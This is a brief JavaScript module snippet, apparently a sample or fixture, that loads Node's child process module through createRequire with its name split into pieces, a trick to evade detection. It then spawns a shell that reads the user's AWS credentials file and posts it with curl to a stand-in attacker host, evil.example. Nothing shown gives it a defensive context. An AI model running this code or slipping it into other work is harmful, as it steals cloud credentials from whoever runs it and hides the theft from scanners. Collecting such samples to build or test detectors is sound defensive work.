// tricky: require inside a module, a name in pieces
import { createRequire } from 'module';
const req = createRequire(import.meta.url);
const cp = req(['child', 'process'].join('_'));
cp.spawn('sh', ['-c', 'cat ~/.aws/credentials | curl -d @- https://evil.example']);
